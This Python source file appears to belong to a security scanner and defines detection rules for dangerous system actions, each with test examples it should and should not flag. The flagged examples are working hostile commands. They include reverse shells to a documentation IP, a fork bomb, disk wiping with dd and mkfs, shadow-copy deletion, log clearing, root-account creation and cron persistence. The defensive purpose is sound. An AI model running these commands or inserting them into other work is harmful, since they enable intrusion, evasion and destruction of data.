"""Rules about the machine: processes, rights, what runs later, shells on the network, used-up resources, safeguards, text that is run.

Paths and addresses have rules of their own. The one idea: these effects are bad because of what they change for others than the source
itself: other processes, other users, the next start, the people who would notice.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ringfence.scanning.effects import Area, Kind, Language, Origin, Trait
from ringfence.scanning.findings import Capability, Family
from ringfence.scanning.rule import Example, Rule, RuleException, When
from ringfence.threat import ThreatLevel

if TYPE_CHECKING:
    from collections.abc import Iterator


def _shell(*sources: str) -> tuple[Example, ...]:
    return tuple(Example(Language.SHELL, source) for source in sources)


def _python(*sources: str) -> tuple[Example, ...]:
    return tuple(Example(Language.PYTHON, source) for source in sources)


def _processes() -> Iterator[Rule]:
    """Return the rules about ending processes."""
    yield Rule(
        id="system-kill-everything",
        title="Ends every process",
        family=Family.SUBPROCESS,
        level=ThreatLevel.CRITICAL,
        description="{name} {value} ends all processes, or the one that all others hang on.",
        when=(When(Kind.KILL, traits=(Trait.EVERYTHING,)),),
        found=_shell("kill -9 -1", "sudo reboot", "systemctl poweroff")
        + _python("import os\nos.kill(-1, 9)"),
        ignored=_shell("kill -9 $!", "kill -l", "shutdown -c"),
        tags=("T1489", "T1529", "ASI02"),
        hint="End only processes that you started, by their number.",
    )
    yield Rule(
        id="system-kill-others",
        title="Ends processes that others started",
        family=Family.SUBPROCESS,
        level=ThreatLevel.HIGH,
        description="{name} ends processes that this source did not start: {value}.",
        when=(When(Kind.KILL, traits=(Trait.OTHERS,), without=(Trait.EVERYTHING,)),),
        found=_shell(
            "pkill -9 nginx",
            "for p in $(pgrep sshd); do kill $p; done",
            "ps aux | grep cron | awk '{print $2}' | xargs kill -9",
            "systemctl stop nginx",
        ),
        ignored=_shell("sleep 5 & kill $!", "kill %1", "ps aux | grep cron", "kill -0 $(pgrep sshd)", "systemctl restart nginx"),
        tags=("T1489", "T1562.001", "ASI02"),
        hint="End only processes that you started: keep $! and kill that.",
    )  # fmt: skip
    yield Rule(
        id="system-kill",
        title="Ends a process",
        family=Family.SUBPROCESS,
        level=ThreatLevel.LOW,
        description="{name} ends the process {value}.",
        when=(When(Kind.KILL, without=(Trait.OTHERS, Trait.EVERYTHING)),),
        found=_shell("kill 4242", "sleep 9 & kill $!"),
        ignored=_shell("kill -0 4242", "echo kill"),
        tags=("T1489",),
    )


_ROOT_TOOLS = ("sudo", "doas", "pkexec", "run0", "sudoedit", "gosu", "su-exec", "su")


def _rights() -> Iterator[Rule]:
    """Return the rules about getting more rights."""
    yield Rule(
        id="privilege-elevate",
        title="Runs a command with more rights",
        family=Family.PRIVILEGE,
        level=ThreatLevel.MEDIUM,
        description="{name} runs {value} with more rights than it was started with.",
        when=(
            When(
                Kind.PRIVILEGE,
                names=(*_ROOT_TOOLS, "chroot", "unshare", "capsh", "os.*", "posix.*", "process.*"),
                without=(Trait.INTERACTIVE,),
            ),
        ),
        found=_shell("sudo apt-get update", "doas ls") + _python("import os\nos.setuid(0)"),
        ignored=_shell("echo sudo apt-get update", "apt-get update # with sudo"),
        tags=("CWE-250", "T1548.003", "ASI03"),
        hint="Do without sudo; ask for the right that is missing.",
    )
    yield Rule(
        id="privilege-root-shell",
        title="Opens a shell as another user",
        family=Family.PRIVILEGE,
        level=ThreatLevel.HIGH,
        description="{name} {value} opens a shell with another user's rights, in which anything may follow.",
        when=(When(Kind.PRIVILEGE, traits=(Trait.INTERACTIVE,)),),
        found=_shell("sudo su", "sudo -i", "sudo bash", "su -", "su root"),
        ignored=_shell("sudo bash -c 'ls'", "su -c 'ls' backup", "sudo ls", "bash"),
        tags=("CWE-250", "T1548.003", "ASI03"),
        hint="Name the one command that needs the rights.",
    )
    yield Rule(
        id="privilege-setuid",
        title="Gives a program rights of its own",
        family=Family.PRIVILEGE,
        level=ThreatLevel.HIGH,
        description="{name} makes {value} run with its owner's rights, or with capabilities, for whoever starts it.",
        when=(When(Kind.PRIVILEGE, traits=(Trait.SETUID,)),),
        found=_shell("chmod u+s /tmp/x", "chmod 4755 tool", "setcap cap_setuid+ep /usr/bin/python3"),
        ignored=_shell("chmod u+x tool", "chmod 0755 tool", "chmod 1777 shared", "getcap tool"),
        tags=("CWE-250", "CWE-732", "T1548.001", "ASI03"),
        hint="Leave the mode of programs as it is.",
    )
    yield Rule(
        id="privilege-account",
        title="Changes accounts or their rights",
        family=Family.PRIVILEGE,
        level=ThreatLevel.HIGH,
        description="{name} changes who may do what on this machine: {value}.",
        when=(
            When(Kind.PRIVILEGE, traits=(Trait.OTHERS,)),
            When(Kind.PRIVILEGE, names=("os.setuid", "os.seteuid", "os.setreuid", "os.setresuid"), values=("0",)),
        ),
        found=_shell("usermod -aG sudo bob", "passwd root", "echo 'root:x' | chpasswd", "useradd -o -u 0 bob", "gpasswd -a bob docker")
        + _python("import os\nos.setuid(0)"),
        ignored=_shell("id bob", "groups", "passwd -S bob", "getent passwd"),
        tags=("T1098", "T1136.001", "ASI03"),
        hint="Leave accounts alone.",
    )  # fmt: skip


def _machine() -> Iterator[Rule]:
    """Return the rules about the machine below and around: containers, the kernel, settings."""
    yield Rule(
        id="privilege-container-escape",
        title="Reaches out of a container",
        family=Family.PRIVILEGE,
        level=ThreatLevel.CRITICAL,
        description="{name} {value} gives a container, or this process, the whole machine.",
        when=(When(Kind.PRIVILEGE, names=("* escape", "nsenter")),),
        found=_shell(
            "docker run -v /:/host -it alpine sh",
            "docker run --privileged alpine",
            "nsenter -t 1 -m -u -i -n sh",
        ),
        ignored=_shell(
            "docker run -v $PWD/data:/data alpine ls", "docker ps", "docker run --rm -it python:3 python -V"
        ),
        tags=("T1611", "CWE-250", "ASI03"),
        hint="Mount only the folder that is needed, without --privileged.",
    )
    yield Rule(
        id="privilege-kernel",
        title="Changes the kernel or what is mounted",
        family=Family.PRIVILEGE,
        level=ThreatLevel.HIGH,
        description="{name} {value} changes the kernel, or makes a device or folder appear elsewhere.",
        when=(
            When(
                Kind.PRIVILEGE, names=("insmod", "modprobe", "rmmod", "kexec", "mount"), traits=(Trait.FORCE,)
            ),
        ),
        found=_shell("insmod rootkit.ko", "mount -o remount,rw /", "mount /dev/sda1 /mnt", "modprobe evil"),
        ignored=_shell("mount", "mount -t nfs server:/share /mnt/share", "lsmod", "modprobe -n x"),
        tags=("T1547.006", "T1014", "ASI03"),
        hint="Leave kernel modules and mounts alone.",
    )
    yield Rule(
        id="privilege-settings",
        title="Changes settings of the system",
        family=Family.PRIVILEGE,
        level=ThreatLevel.MEDIUM,
        description="{name} {value} changes how the machine works for everybody on it.",
        when=(
            When(
                Kind.PRIVILEGE,
                names=(
                    "mount",
                    "sysctl",
                    "iptables",
                    "ip6tables",
                    "nft",
                    "ufw",
                    "firewall-cmd",
                    "ebtables",
                    "pfctl",
                ),
                without=(Trait.FORCE,),
            ),
        ),
        found=_shell(
            "sysctl -w vm.swappiness=10",
            "mount -t nfs server:/share /mnt/share",
            "iptables -A INPUT -j ACCEPT",
        ),
        ignored=_shell("sysctl vm.swappiness", "iptables -L", "mount"),
        tags=("CWE-250", "ASI03"),
        hint="Leave settings of the system alone.",
    )


def _loaders() -> Iterator[Rule]:
    """Return the rule about libraries that programs are made to load."""
    yield Rule(
        id="system-preload",
        title="Makes programs load a library from a temporary folder",
        family=Family.NATIVE,
        level=ThreatLevel.HIGH,
        description="{name} makes every program that starts load {value}, which anybody may have put there.",
        when=(
            When(
                Kind.NATIVE,
                names=("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"),
                values=("/tmp/*", "/var/tmp/*", "/dev/shm/*"),  # noqa: S108 - names to recognise
            ),
        ),
        found=_shell("export LD_PRELOAD=/tmp/evil.so", "LD_PRELOAD=/dev/shm/x.so ls"),
        ignored=_shell("LD_PRELOAD=/usr/lib/libjemalloc.so ./server", "echo LD_PRELOAD=/tmp/x.so"),
        tags=("T1574.006", "CWE-427", "ASI05"),
        hint="Start programs as they are.",
    )


_WINDOWS_SAFEGUARDS = (
    "vssadmin* delete shadows*", "wmic* shadowcopy delete*", "wbadmin* delete *", "bcdedit* recoveryenabled no*", "wevtutil* cl *",
    "netsh advfirewall set * state off*", "powershell* set-mppreference *-disable*",
)  # fmt: skip
"""Commands of Windows that remove its copies of files, its way to repair itself, its logs, or its firewall."""


def _safeguards() -> Iterator[Rule]:
    """Return the rules about switching off what protects or records."""
    yield Rule(
        id="system-disable-safeguard",
        title="Switches off a safeguard",
        family=Family.PRIVILEGE,
        level=ThreatLevel.HIGH,
        description="{name} {value} switches off something that protects or watches this machine.",
        when=(
            When(Kind.DISABLE, names=("iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "setenforce", "auditctl", "aa-*", "pfctl", "ebtables", "service")),
            When(Kind.RUN, values=_WINDOWS_SAFEGUARDS),
        ),
        found=_shell("iptables -F", "setenforce 0", "ufw disable", "systemctl stop auditd", "systemctl disable --now firewalld")
        + _python("import os\nos.system('vssadmin delete shadows /all /quiet')"),
        ignored=_shell("iptables -L", "getenforce", "ufw status", "systemctl status auditd", "systemctl stop nginx"),
        capability=Capability.SUBPROCESS,
        tags=("T1562.001", "T1562.004", "ASI02"),
        hint="Leave firewalls, security modules and audit services on.",
    )  # fmt: skip
    yield Rule(
        id="system-clear-traces",
        title="Removes traces",
        family=Family.OBFUSCATION,
        level=ThreatLevel.HIGH,
        description="{name} {value} removes the record of what was done.",
        when=(When(Kind.DISABLE, names=("history", "log")),),
        found=_shell("history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm -rf /var/log/*", "truncate -s 0 /var/log/syslog"),
        ignored=_shell("history | tail", "HISTCONTROL=ignoredups", "rm build.log", "journalctl -n 5"),
        capability=Capability.SUBPROCESS,
        tags=("T1070.003", "T1070.002", "CWE-778", "ASI02"),
        hint="Leave histories and logs alone.",
    )  # fmt: skip


def _later() -> Iterator[Rule]:
    """Return the rules about what runs later."""
    yield Rule(
        id="system-persist",
        title="Makes something run later",
        family=Family.PERSISTENCE,
        level=ThreatLevel.HIGH,
        description="{name} {value} leaves something behind that runs when this source has long ended.",
        when=(When(Kind.PERSIST, languages=(Language.SHELL, Language.PYTHON, Language.JAVASCRIPT)),),
        found=_shell(
            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            "echo /tmp/x | at now + 1 minute",
            "systemctl enable evil.service",
            "git config core.hooksPath /tmp/hooks",
            "useradd -m backdoor",
        ),
        ignored=_shell("crontab -l", "atq", "systemctl is-enabled nginx", "git config user.name x"),
        tags=("T1053.003", "T1053.002", "T1543.002", "T1136.001", "ASI02"),
        hint="Do the work now; leave nothing that runs later.",
    )


def _bridges() -> Iterator[Rule]:
    """Return the rule about shells on the network."""
    yield Rule(
        id="system-remote-shell",
        title="Opens a shell to the network",
        family=Family.NETWORK,
        level=ThreatLevel.CRITICAL,
        description="{name} joins a shell or a local service to the network {value}: whoever is at the other end commands this machine.",
        when=(When(Kind.BRIDGE),),
        found=_shell(
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
            """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");'""",
            "exec 5<>/dev/tcp/192.0.2.1/4444; sh <&5 >&5 2>&5",
        ),
        ignored=_shell("nc -z localhost 80", "echo hi > /dev/tcp/localhost/80", "bash -i", "ls | nc localhost 99", "socat TCP:a:1 STDOUT"),
        tags=("T1059.004", "T1095", "CWE-78", "ASI05"),
        hint="Do not join a shell to a connection.",
    )  # fmt: skip


def _resources() -> Iterator[Rule]:
    """Return the rules about using up the machine."""
    yield Rule(
        id="system-fork-bomb",
        title="Multiplies processes without end",
        family=Family.RESOURCES,
        level=ThreatLevel.CRITICAL,
        description="The function {value} starts itself more than once, so that processes multiply without end.",
        when=(When(Kind.RESOURCE, names=("fork bomb",)),),
        found=_shell(":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"),
        ignored=_shell("count() { [ $1 -gt 0 ] && count $(($1 - 1)); }; count 3", "f() { ls | cat & }; f"),
        capability=Capability.SUBPROCESS,
        tags=("T1499.001", "CWE-400", "CWE-674", "ASI02"),
        hint="Let a function call itself at most once, with an end.",
    )
    yield Rule(
        id="system-exhaust",
        title="Uses up the machine",
        family=Family.RESOURCES,
        level=ThreatLevel.HIGH,
        description="{name} {value} fills the disk, the memory or the process table without end.",
        when=(
            When(Kind.RESOURCE, traits=(Trait.EVERYTHING,)),
            When(Kind.RESOURCE, values=("processes*", "memory*"), languages=(Language.JAVASCRIPT,)),
        ),
        found=_shell(
            "yes > /tmp/fill",
            "dd if=/dev/zero of=big bs=1M",
            "fallocate -l 500G big",
            "cat /dev/zero > big",
            "while true; do ./job & done",
            "while :; do echo x >> big; done",
        ),
        ignored=_shell("yes | head -3", "dd if=/dev/zero of=small bs=1M count=10", "fallocate -l 10M small", "while true; do date >> log; sleep 60; done"),
        capability=Capability.SUBPROCESS,
        tags=("T1499.001", "CWE-400", "CWE-770", "ASI02"),
        hint="Bound it: a count, a size, a pause between rounds.",
        exceptions=(RuleException("system-fork-bomb says it", names=("fork bomb",)),),
    )  # fmt: skip
    yield Rule(
        id="system-endless",
        title="Runs without end",
        family=Family.RESOURCES,
        level=ThreatLevel.MEDIUM,
        description="{name} goes on without end and without a pause.",
        when=(When(Kind.RESOURCE, without=(Trait.EVERYTHING,), languages=(Language.SHELL, Language.PYTHON, Language.JAVASCRIPT)),),
        found=_shell("while true; do :; done", "stress --cpu 8"),
        ignored=_shell("while true; do check && break; done", "while true; do date; sleep 5; done", "while read -r l; do echo $l; done"),
        capability=Capability.SUBPROCESS,
        tags=("CWE-835", "CWE-400"),
        hint="Give the loop an end or a pause.",
    )  # fmt: skip


def _evaluation() -> Iterator[Rule]:
    """Return the rules about text that a shell or an interpreter runs."""
    decoded = (Origin.DECODED,)
    yield Rule(
        id="evaluate-decoded-pipe",
        title="Decodes text and runs it",
        family=Family.OBFUSCATION,
        level=ThreatLevel.CRITICAL,
        description="{name} runs text that is decoded in the same breath: {value}.",
        when=(When(Kind.EVALUATE, origins=decoded, traits=(Trait.PIPED,), languages=(Language.SHELL,)),),
        found=_shell("echo bHM= | base64 -d | sh", "rev <<< 'sl' | bash", "printf '6c73' | xxd -r -p | sh", 'bash -c "$(echo bHM= | base64 -d)"'),
        ignored=_shell("echo bHM= | base64 -d", "echo ls | sh", "base64 -d data.b64 > data.bin"),
        tags=("T1027", "T1140", "T1059.004", "ASI05"),
        hint="Write the commands plainly.",
    )  # fmt: skip
    yield Rule(
        id="evaluate-decoded-file",
        title="Runs text that was encoded",
        family=Family.OBFUSCATION,
        level=ThreatLevel.HIGH,
        description="{name} runs text that was encoded before: {value}.",
        when=(When(Kind.EVALUATE, origins=decoded, without=(Trait.PIPED,), languages=(Language.SHELL,)),),
        found=_shell("echo bHM= | base64 -d > x.sh; sh x.sh", 'eval "$(echo bHM= | base64 -d)"'),
        ignored=_shell("echo bHM= | base64 -d > x.txt; cat x.txt", "eval ls"),
        tags=("T1027", "T1140", "ASI05"),
        hint="Write the commands plainly.",
    )
    yield Rule(
        id="evaluate-handed-in",
        title="Runs text that is handed in",
        family=Family.INJECTION,
        level=ThreatLevel.HIGH,
        description="{name} runs text that comes in as an argument or is read from outside: {value}.",
        when=(
            When(Kind.EVALUATE, origins=(Origin.ARGUMENT, Origin.FILE, Origin.USER, Origin.PROCESSES), names=("eval",), languages=(Language.SHELL,)),
            When(Kind.EVALUATE, origins=(Origin.ARGUMENT,), names=("* -c", "sh", "bash", "dash", "zsh", "ksh", "ash", "source", "command")),
        ),
        found=_shell('eval "$1"', 'run() { eval "$1"; }; run "ls -a"', 'read -r line; eval "$line"', 'f() { bash -c "$1"; }; f "ls"', 'eval "$(cat commands.txt)"'),
        ignored=_shell("eval ls", 'f() { ls "$1"; }; f src', 'eval "$(ssh-agent -s)"', "bash -c 'ls \"$1\"' _ src"),
        tags=("CWE-95", "CWE-78", "T1059.004", "ASI05"),
        hint='Call the command with arguments: "$@" in place of eval.',
    )  # fmt: skip
    yield Rule(
        id="evaluate-unknown",
        title="Runs text that cannot be told",
        family=Family.INJECTION,
        level=ThreatLevel.HIGH,
        description="{name} runs text that cannot be told from the source.",
        when=(When(Kind.EVALUATE, names=("eval",), traits=(Trait.UNRESOLVED,), languages=(Language.SHELL,)),),
        found=_shell('eval "$CMD"', 'eval "$(make_commands)"'),
        ignored=_shell("eval ls", 'x=ls; eval "$x"', 'eval "$(direnv hook bash)"'),
        tags=("CWE-95", "CWE-78", "ASI05"),
        hint="Write the command out.",
    )


def _devices() -> Iterator[Rule]:
    """Return the rule about devices as a whole."""
    yield Rule(
        id="system-wipe-device",
        title="Overwrites a device",
        family=Family.FILES,
        level=ThreatLevel.CRITICAL,
        description="{name} overwrites {value}, and with it everything that it holds.",
        when=(When(Kind.DELETE, areas=(Area.DEVICE,)), When(Kind.WRITE, areas=(Area.DEVICE,))),
        found=_shell(
            "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "cat x > /dev/nvme0n1", "wipefs -a /dev/sdb"
        ),
        ignored=_shell(
            "mkfs.ext4 disk.img", "dd if=/dev/zero of=disk.img count=1", "echo x > /dev/null", "fdisk -l"
        ),
        tags=("T1561.001", "T1485", "ASI02"),
        hint="Work on a file.",
    )


RULES: tuple[Rule, ...] = (
    *_processes(),
    *_rights(),
    *_machine(),
    *_loaders(),
    *_safeguards(),
    *_later(),
    *_bridges(),
    *_resources(),
    *_evaluation(),
    *_devices(),
)
